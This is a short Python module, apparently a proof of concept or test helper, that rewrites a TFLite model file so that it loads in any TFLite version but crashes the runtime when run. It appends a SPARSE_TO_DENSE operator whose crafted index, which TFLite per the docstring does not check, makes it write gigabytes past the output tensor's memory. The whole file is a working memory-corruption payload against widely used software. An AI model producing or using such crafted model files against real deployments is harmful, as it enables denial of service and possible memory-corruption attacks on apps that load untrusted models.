"""A `.tflite` file that any version of TFLite loads, and that crashes it when it is called."""

from __future__ import annotations

from pathlib import Path

import flatbuffers
import numpy as np
from ai_edge_litert import schema_py_generated as schema


def make_crash(path: Path) -> None:
    """Writes a file again: its output is now a value of SPARSE_TO_DENSE, whose place TFLite does not check.

    The inputs and outputs stay. The value is written some gigabytes behind the output's memory.
    """
    model = schema.ModelT.InitFromPackedBuf(path.read_bytes(), 0)
    (graph,) = model.subgraphs
    (output,) = graph.outputs
    shape = graph.tensors[output].shape

    def constant(values: np.ndarray) -> int:
        buffer, tensor = schema.BufferT(), schema.TensorT()
        buffer.data = np.frombuffer(values.tobytes(), np.uint8)
        tensor.shape, tensor.buffer, tensor.name = list(values.shape), len(model.buffers), f"made {len(graph.tensors)}"
        tensor.type = schema.TensorType.INT32 if values.dtype == np.int32 else schema.TensorType.FLOAT32
        model.buffers.append(buffer)
        graph.tensors.append(tensor)
        return len(graph.tensors) - 1

    code, operator = schema.OperatorCodeT(), schema.OperatorT()
    code.builtinCode = code.deprecatedBuiltinCode = schema.BuiltinOperator.SPARSE_TO_DENSE
    code.version = 1
    model.operatorCodes.append(code)
    operator.opcodeIndex = len(model.operatorCodes) - 1
    place = np.zeros((1, len(shape)), np.int32)
    place[0, 0] = (1 << 30) // int(np.prod(shape[1:]))
    given = (place, np.array(shape, np.int32), np.ones(1, np.float32), np.zeros((), np.float32))
    operator.inputs, operator.outputs = [constant(values) for values in given], [output]
    operator.builtinOptionsType, operator.builtinOptions = (
        schema.BuiltinOptions.SparseToDenseOptions,
        schema.SparseToDenseOptionsT(),
    )
    graph.operators = [each for each in graph.operators if output not in each.outputs] + [operator]
    builder = flatbuffers.Builder(0)
    builder.Finish(model.Pack(builder), b"TFL3")
    path.write_bytes(bytes(builder.Output()))
